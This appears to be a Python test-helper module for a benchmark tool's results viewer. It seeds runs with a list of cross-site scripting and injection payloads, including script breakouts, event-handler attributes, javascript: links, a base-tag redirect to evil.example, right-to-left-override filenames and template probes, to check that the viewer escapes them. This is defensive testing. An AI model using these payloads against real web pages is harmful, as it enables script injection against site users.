"""A results folder for the tests of ``bench view`` and ``bench publish``, and the server as a user
starts it.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import re
import subprocess
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlencode, urlsplit

from . import forked
from .conftest import LABELS, SUITE, Vendor, _serve, environment
from .forked import BENCH
from .judge_vendor import JudgeVendor, judged

HOSTILE = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "</pre></td><svg onload=\"document.title='owned'\">",
    "javascript:document.title='owned'//",
    '" autofocus onfocus="document.title=1" x="',
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "<base href='//evil.example/'><form action='//evil.example/'>",
    "abc\u202egnp.exe\u200b\u0007 end",
    "{{ 7*7 }} {% raw %}",
    "</template></style><style>body{display:none}</style>",
    "--><iframe srcdoc='<script>parent.document.title=1</script>'>",
)


class HostileVendor(Vendor):
    """Answers with what a page must not obey."""

    def reply(self, number: int, text: str) -> str:
        return HOSTILE[number % len(HOSTILE)]


HOSTILE_SUITE = """\
name: "odd <svg onload=document.title=1>"
version: 1-0
description: "<img src=x onerror=document.title=1>"
sampling: {{temperature: 0, seed: 1}}
errors: {{max_retries: 0, backoff_s: 0.01, timeout_s: 20, connect_timeout_s: 2}}
tasks:
  - name: "ta<b>sk"
    dataset: {{path: odd.jsonl, id: id, target: team, slices: [kind]}}
    prompt: [{{user: "{{{{ text }}}}"}}]
    answer: {{type: text}}
    scorers: [exact]
    max_tokens: 60
arms:
  - {{name: "good", provider: openai, model: "m<svg onload=document.title=1>", base_url: "{url}", weights: proprietary,
     api_key_env: GOOD_KEY, concurrency: 4, cost: {{price: {{input: 1, output: 4, source: test, dated: 2026-01-01}}}}}}
  - {{name: "a\\u202eb", provider: openai, model: "small", base_url: "{url}", weights: open,
     concurrency: 4, cost: {{price: {{input: 1, output: 4, source: test, dated: 2026-01-01}}}}}}
claims:
  - {{id: cheaper, claim: "90% cheaper than good", arm: "a\\u202eb"}}
"""


def make_results(folder: Path) -> dict[str, str]:
    """Run a judged suite twice and a hostile one once; return the runs' ids by name."""
    rows = [
        {
            "id": f"t{i}",
            "text": f"ticket #{i} please help",
            "team": LABELS[i % 3],
            "person": f"p{i}",
        }
        for i in range(40)
    ]
    (folder / "tickets.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    odd = [
        {"id": f"<i>{i}", "text": f"{text} #{i} ", "team": text, "kind": text[:20]}
        for i, text in enumerate(HOSTILE)
    ]
    (folder / "odd.jsonl").write_text("".join(json.dumps(row) + "\n" for row in odd))
    found = {}
    with contextlib.ExitStack() as stack:

        def up(vendor: Vendor) -> Vendor:
            served = _serve(vendor)
            started = next(served)
            stack.callback(lambda: next(served, None))
            return started

        good, cheap, arbiter = up(Vendor()), up(Vendor(right=20)), up(JudgeVendor())
        evil = up(HostileVendor())
        suite = SUITE.format(good=good.url, cheap=cheap.url)
        (folder / "desk.yaml").write_text(judged(suite, arbiter.url))
        (folder / "odd.yaml").write_text(HOSTILE_SUITE.format(url=evil.url))
        for name, file in (("first", "desk.yaml"), ("second", "desk.yaml"), ("odd", "odd.yaml")):
            done = forked.run(
                ["run", file, "--json", "--yes", "--no-report"],
                cwd=folder,
                env=environment({"XDG_CONFIG_HOME": str(folder / "config")}),
                timeout=180,
            )
            assert done.returncode in (0, 1, 2), done.stderr
            found[name] = json.loads(done.stdout)["run"]
    return found


@dataclass
class Answer:
    """What the server answered."""

    status: int
    headers: Mapping[str, str]
    text: str
    cookies: list[str] = field(default_factory=list)


@dataclass
class Viewer:
    """A running ``bench view``, and a browser's cookie for it."""

    url: str
    token: str
    process: subprocess.Popen[str]
    cookie: str = ""

    @property
    def port(self) -> int:
        port = urlsplit(self.url).port
        assert port is not None
        return port

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def ask(
        self,
        path: str,
        method: str = "GET",
        body: bytes | None = None,
        headers: Mapping[str, str | None] | None = None,
    ) -> Answer:
        """Ask as a browser with the cookie does; a header of None is left out."""
        sent: dict[str, str | None] = {"Host": f"127.0.0.1:{self.port}", "Cookie": self.cookie}
        sent |= headers or {}
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=120)
        try:
            connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
            for name, value in sent.items():
                if value is not None:
                    connection.putheader(name, value)
            if body is not None:
                connection.putheader("Content-Length", str(len(body)))
            connection.endheaders(body)
            reply = connection.getresponse()
            text = reply.read().decode("utf-8", "replace")
            cookies = reply.headers.get_all("set-cookie") or []
            return Answer(reply.status, dict(reply.headers.items()), text, cookies)
        finally:
            connection.close()

    def log_in(self) -> None:
        """Exchange the token for the cookie."""
        reply = self.ask(f"/?token={self.token}", headers={"Cookie": None})
        assert reply.status == 303, reply
        self.cookie = reply.cookies[0].partition(";")[0]

    def csrf(self, path: str) -> str:
        found = re.search(r'name="csrf" value="([^"]+)"', self.ask(path).text)
        assert found is not None, path
        return found.group(1)

    def post(self, path: str, fields: Mapping[str, str], **headers: str | None) -> Answer:
        """Send a form as a page of the server does; headers by keyword, ``_`` for ``-``."""
        sent: dict[str, str | None] = {
            "Origin": self.origin,
            "Content-Type": "application/x-www-form-urlencoded",
        }
        sent |= {name.replace("_", "-"): value for name, value in headers.items()}
        return self.ask(path, "POST", urlencode(fields).encode(), sent)

    def until_judged(self, run_id: str, wait_s: float = 400) -> str:
        """Open a run's page until it is judged; return it."""
        deadline = time.monotonic() + wait_s
        while time.monotonic() < deadline:
            text = self.ask(f"/runs/{run_id}").text
            if "Being judged" not in text and "it is being verified again" not in text:
                return text
            time.sleep(0.3)
        raise AssertionError(text)


@contextlib.contextmanager
def viewing(folder: Path, *options: str) -> Iterator[Viewer]:
    """Start ``bench view`` in a folder as a user would, and log in."""
    process = subprocess.Popen(
        [*BENCH, "view", "--no-browser", *options],
        cwd=folder,
        env=environment({"CLAIMBENCH_CACHE": str(folder / "cache")}),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        url = process.stdout.readline().strip()
        assert url, process.communicate()[1]
        viewer = Viewer(url, urlsplit(url).query.removeprefix("token="), process)
        viewer.log_in()
        yield viewer
    finally:
        process.terminate()
        process.communicate(timeout=60)
